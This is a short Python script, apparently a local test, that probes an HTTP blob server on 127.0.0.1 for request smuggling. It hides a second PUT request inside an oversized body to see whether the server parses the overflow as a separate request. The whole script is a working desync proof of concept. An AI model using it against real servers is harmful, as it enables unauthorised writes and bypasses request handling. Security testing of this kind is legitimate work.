import socket
s=socket.create_connection(("127.0.0.1",18733)); s.settimeout(3)
inner=b"PUT /blobs/smuggled HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc"
body = inner + b"x"*(1048577+100-len(inner))
s.sendall(b"PUT /blobs/big HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body))
try:
    s.sendall(body)
except Exception as e: print("send err", e)
out=b""
try:
    while True:
        d=s.recv(65536)
        if not d: break
        out+=d
except Exception as e: out+=b"<"+repr(e).encode()+b">"
print(out[:600])
